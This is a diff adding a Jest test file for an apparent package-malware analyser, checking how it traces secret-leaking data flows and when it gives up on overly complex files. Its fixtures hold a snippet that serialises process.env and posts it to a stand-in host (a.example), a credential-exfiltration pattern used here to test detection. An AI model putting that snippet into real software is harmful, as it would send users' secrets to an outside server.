@@ -1,0 +1,47 @@
+import { describe, expect, it } from '@jest/globals'
+import { maxFlowSources, maxFlowSteps, maxFlowsOfFile } from '../../../../src/limits.js'
+import { fileAnalyser } from '../../../../src/package/code/analyse-file.js'
+
+const analyse = fileAnalyser()
+
+const read = (code: string) => {
+  const { flows, unanalysable } = analyse(Buffer.from(code), 'index.js')
+  return { flows: flows.length, reason: unanalysable?.reason }
+}
+
+const times = (count: number, make: (at: number) => string): string =>
+  Array.from({ length: count }, (_, at) => make(at)).join('')
+
+const sends = "require('https').request('https://a.example').end(JSON.stringify(z));"
+
+describe('flows of hostile files', () => {
+  it('follow names that stand for names to the end', () => {
+    const names = `let a0=JSON.stringify(process.env);${times(25, (at) => `let a${at + 1}=a${at};`)}`
+    expect(read(`${names}const z=a25;${sends}`)).toEqual({ flows: 1, reason: undefined })
+  })
+
+  it('tell so many flows and no more', () => {
+    const code = `const z=[${times(maxFlowsOfFile + 20, () => 'JSON.stringify(process.env),')}];${sends}`
+    expect(read(code)).toEqual({ flows: maxFlowsOfFile, reason: undefined })
+  })
+
+  it('leave a file unread that has more secrets than are followed', () => {
+    const code = `const z=[];${times(maxFlowSources + 1, () => 'z.push({...process.env});')}${sends}`
+    expect(read(code).reason).toBe('too-complex')
+  })
+
+  it('leave a file unread whose secrets lead to more places than are looked at', () => {
+    const uses = 50
+    const properties = times(maxFlowSteps / uses + 10, (at) => `p${at}:k,`)
+    const code = `const k=JSON.stringify(process.env);const z={${properties}};${times(uses, () => 'z;')}${sends}`
+    expect(read(code).reason).toBe('too-complex')
+  })
+
+  it('end with functions that call one another with themselves', () => {
+    const code = `const k=JSON.stringify(process.env)
+function f(a,b,c){ const x={a,b,c}; f(x,b,[a]); f(c,x,{x}); g(f); return x }
+function g(h){ return h(k,k,k) }
+const z=f(k,{k},[k]);${sends}`
+    expect(read(code)).toEqual({ flows: 1, reason: undefined })
+  })
+})
